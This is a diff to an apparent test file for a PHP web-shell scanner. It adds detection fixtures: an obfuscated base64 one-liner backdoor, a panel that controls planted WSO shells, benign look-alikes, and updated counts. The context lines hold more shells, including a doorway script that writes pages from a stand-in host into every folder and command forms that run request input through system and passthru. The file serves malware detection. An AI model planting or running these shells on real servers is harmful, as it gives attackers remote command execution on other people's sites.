@@ -41,6 +41,8 @@ const MALICIOUS: [string, string, string][] = [
   ['a doorway writing into each folder named in a double-quoted literal (S36B)', '/var/www/html/v9.php', `<?php\n$srv = "http://doorway.example.invalid/tpl/";\n$c = file_get_contents($srv . "?host=" . urlencode($_SERVER["HTTP_HOST"]));\nforeach (glob($_SERVER["DOCUMENT_ROOT"] . "/*", GLOB_ONLYDIR) as $d) file_put_contents("$d/index.php", $c);\n`],
   ['a register_globals command form keeping a history keyed by the command (S36B)', '/var/www/html/v10.php', `<form method="post"><input name="cmd"></form>\n<?php\nsession_start();\nif (isset($cmd)) { $_SESSION["hist"][$cmd] = time(); passthru($cmd); }\n`],
   ['a register_globals command form whose echoed text says "as" (S36B)', '/var/www/html/v11.php', `<form method="post"><input name="cmd"></form>\n<?php\nif (isset($cmd)) { echo "<h3>Output as text: $cmd</h3>"; system($cmd); }\n`],
+  ['a function name decoded from base64 joined from bare words of any case, called on request input (held-out set H16)', '/var/www/html/w1.php', `<?php $f=base64_decode(Y.X.N.z.Z.X.J0);$f(($_POST[$_GET[a]]));?>\n`],
+  ['a panel posting WSO\'s remote-control action to a list of planted shells and reading their version (H16)', '/var/www/html/w2.php', `<?php\nforeach (file('shells.txt') as $line) {\n  [$url, $pass] = explode('|', rtrim($line));\n  $post = http_build_query(array('pass' => $pass, 'a' => 'RC'));\n  $r = @unserialize(file_get_contents($url, false, stream_context_create(array('http' => array('method' => 'POST', 'content' => $post)))));\n  if (is_array($r) && isset($r['wso_version'])) echo htmlspecialchars($url), "\\n";\n}\n`],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
@@ -69,6 +71,8 @@ const LOOKALIKES: [string, string, string][] = [
   ['a backup plugin putting a "Silence is golden" index.php into its folders (S36B-9)', '/var/www/html/backup.php', `<?php\n$api = 'https://api.backup.example.com/';\n$site = $_SERVER['HTTP_HOST'];\n$res = file_get_contents($api . 'status?site=' . urlencode($site));\nforeach (['archives', 'logs'] as $d) { $path = WP_CONTENT_DIR . '/backups/' . $d; if (!is_dir($path)) mkdir($path, 0755); file_put_contents($path . '/index.php', "<?php\\n// Silence is golden.\\n"); }\nfwrite(STDERR, $res);\n`],
   ['a panel building a Perl module downloaded over https in /tmp (S36B)', '/var/www/html/cpan.php', `<?php\n$out = shell_exec("cd /tmp && wget -q https://cpan.metacpan.org/authors/id/X/XX/Some-Module-1.0.tar.gz && tar xzf Some-Module-1.0.tar.gz && cd Some-Module-1.0 && perl Makefile.PL && make 2>&1");\n`],
   ['a status page whose closure takes a $cmd parameter, beside a select named cmd (S36B-12)', '/var/www/html/status2.php', `<?php\n$checks = ['uptime' => 'uptime', 'disk' => 'df -h'];\n$run = function (string $cmd): string { return (string) shell_exec("$cmd 2>&1"); };\n$key = isset($_GET['cmd'], $checks[$_GET['cmd']]) ? $_GET['cmd'] : 'uptime';\n?>\n<form><select name="cmd"><option>uptime</option></select></form>\n<pre><?= htmlspecialchars($run($checks[$key])) ?></pre>\n`],
+  ['a development helper downloading composer.phar from its site and running an update (H16\'s benign php-crud-api helper)', '/var/www/html/update-deps.php', `<?php\nif (!file_exists('composer.phar')) {\n  $composer = file_get_contents('https://getcomposer.org/composer.phar');\n  file_put_contents('composer.phar', $composer);\n}\nexec('php composer.phar update');\n`],
+  ['constants joined by ".", defined by the code, printed', '/var/www/html/consts.php', `<?php\ndefine('A', 'x'); define('B', 'y');\necho A . B . PHP_EOL . htmlspecialchars($_GET['q'] ?? '');\n`],
 ];
 
 describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () => {
@@ -78,7 +82,7 @@ describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () =>
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 32));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 34));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
@@ -86,5 +90,5 @@ describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () =>
       assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 25));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 27));
 });
